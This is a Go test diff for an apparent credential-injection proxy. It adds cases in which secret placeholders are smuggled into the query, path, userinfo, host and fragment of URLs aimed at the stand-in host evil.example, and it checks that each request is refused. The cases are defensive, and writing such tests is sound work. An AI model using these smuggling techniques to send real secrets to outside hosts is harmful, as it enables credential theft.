@@ -130,6 +130,11 @@ func TestApplyRefuses(t *testing.T) {
 		{"placeholder to unbound host", "https://evil.example/collect", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, grantAll, ReasonPlaceholderUnbound},
 		{"placeholder in path to unbound host", "https://evil.example/x/stk_ph_stripe", nil, grantAll, ReasonPlaceholderUnbound},
 		{"percent-encoded placeholder in query", "https://evil.example/x?k=stk%5Fph%5Fstripe", nil, grantAll, ReasonPlaceholderUnbound},
+		{"placeholder in the query name", "https://evil.example/x?stk_ph_stripe=1", nil, grantAll, ReasonPlaceholderUnbound},
+		{"percent-encoded placeholder in path", "https://evil.example/x/stk%5Fph%5Fstripe", nil, grantAll, ReasonPlaceholderUnbound},
+		{"placeholder in userinfo", "https://stk_ph_stripe@evil.example/", nil, grantAll, ReasonPlaceholderUnbound},
+		{"placeholder in userinfo password", "https://u:stk_ph_stripe@evil.example/", nil, grantAll, ReasonPlaceholderUnbound},
+		{"placeholder in host", "https://stk_ph_stripe.evil.example/", nil, grantAll, ReasonPlaceholderUnbound},
 		{"placeholder in an unscanned header", "https://evil.example/", map[string]string{"X-Whatever": "data stk_ph_github"}, grantAll, ReasonPlaceholderUnbound},
 		{"placeholder in basic to unbound host", "https://evil.example/", map[string]string{"Authorization": "Basic " + b64("u:stk_ph_stripe")}, grantAll, ReasonPlaceholderUnbound},
 		{"wildcard does not match apex", "https://openai.example/", map[string]string{"X-Api-Key": "stk_ph_openai"}, grantAll, ReasonPlaceholderUnbound},
@@ -162,6 +167,18 @@ func TestApplyRefuses(t *testing.T) {
 				t.Errorf("a secret was written into a refused request: %s", s)
 			}
 		})
+	}
+}
+
+// A request built in code can carry a fragment, which requests read off
+// the wire cannot: it is scanned too.
+func TestApplyRefusesPlaceholderInFragment(t *testing.T) {
+	r := httptest.NewRequest("GET", "https://evil.example/", nil)
+	r.URL.Fragment = "stk_ph_stripe"
+	_, err := New(newStore(), Options{}).Apply(context.Background(), r, r.URL.Host, grantAll)
+	var de *DeniedError
+	if !errors.As(err, &de) || de.Reason != ReasonPlaceholderUnbound {
+		t.Fatalf("err = %v, want %s", err, ReasonPlaceholderUnbound)
 	}
 }
 
